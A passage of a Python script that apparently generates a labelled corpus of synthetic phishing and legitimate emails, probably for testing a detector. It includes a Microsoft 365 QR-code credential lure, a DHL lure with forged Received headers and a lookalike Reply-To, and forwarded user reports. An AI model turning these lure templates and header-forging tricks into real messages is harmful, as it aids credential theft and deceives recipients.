        comp = R.choice(["hacked-bakery.com", "cheap-hosting.biz"])
        ctype, body = multipart([html_part(
            f"<p>Your password will expire today. Scan the QR code below with your phone to keep "
            f"your mailbox active (Microsoft 365).</p><img src=\"cid:qr{i}\">"),
            attachment(f"qr{i}.png", qr_png(f"https://{BAD_HOSTS[i]}/m365/auth?u=user{i}"), "image/png")])
        top = plain_top(f"mail.{comp}", ip(), 20 + i)
        hdr = [f'From: "Microsoft 365" <no-reply@{comp}>', f"To: user{i}@{VICTIM_ORG}",
               "Subject: Re-authenticate your mailbox", f"Date: {date(7, 20 + i)}",
               f"Message-ID: {mid(comp)}"]
        out.append(("phish", f"qr-lure-{i}", build(top, hdr, body, ctype)))
    for i in range(3):  # forged lower hops: time travel + private relay, lookalike reply-to
        comp = "cheap-hosting.biz"
        top = plain_top(f"mail.{comp}", ip(), 30 + i) + [
            f"Received: from [10.9.8.{i + 1}] by relay.{comp} with SMTP; Tue, 3 Nov 2026 11:00:00 +0000"]
        hdr = [f'From: "DHL Express" <track@{comp}>', "Reply-To: track@dhl-delivery-support.com",
               f"To: user{i}@{VICTIM_ORG}", "Subject: Delivery attempt failed",
               f"Date: {date(7, 30 + i)}", f"Message-ID: {mid(comp)}"]
        html = f"<p>Your package could not be delivered.</p><a href=\"https://{BAD_HOSTS[i]}/dhl\">Reschedule</a>"
        out.append(("phish", f"forged-hops-{i}", build(top, hdr, html, "text/html; charset=utf-8")))
    # user reports (forwarded as attachment) of phishing: message/rfc822 and .eml octet-stream
    for i, (kind, src) in enumerate((("rfc822", out[0][2]), ("eml", out[20][2]), ("rfc822", out[40][2]))):
        outer_auth = auth_line("pass", "pass", "pass", VICTIM_ORG, VICTIM_ORG, VICTIM_ORG, ms=True)
        if kind == "rfc822":
            part = ("message/rfc822", "Content-Disposition: attachment\n", src.decode("utf-8", "surrogateescape"))
        else:
            part = attachment("suspicious.eml", src, "application/octet-stream")
        ctype, body = multipart([text_part("Reporting this one, looks fake.\n"), part])
        out.append(("phish", f"report-{kind}-{i}", build(
            m365_top("SA1PR19MB0002.namprd19.prod.outlook.com", "10.1.2.4", outer_auth, 56 + i),
            [f"From: Hana Sample <hana.sample@{VICTIM_ORG}>", f"To: phishing@{VICTIM_ORG}",
             "Subject: Phishing: please check", f"Date: {date(9, 56 + i)}", f"Message-ID: {mid(VICTIM_ORG)}"],
            body, ctype)))
    return out


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else HERE
    for label in ("ham", "phish"):
        for old in (out / label).glob("*.eml"):
            old.unlink()
        (out / label).mkdir(parents=True, exist_ok=True)
    labels = {}
    for label, name, data in ham() + phish():
        path = out / label / f"{name}.eml"
        path.write_bytes(data)
        labels[f"{label}/{name}.eml"] = {"label": label, "kind": re.sub(r"-\d+$", "", name)}
    (out / "labels.json").write_text(json.dumps(labels, indent=1, sort_keys=True) + "\n")
    print(f"{len(labels)} messages", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
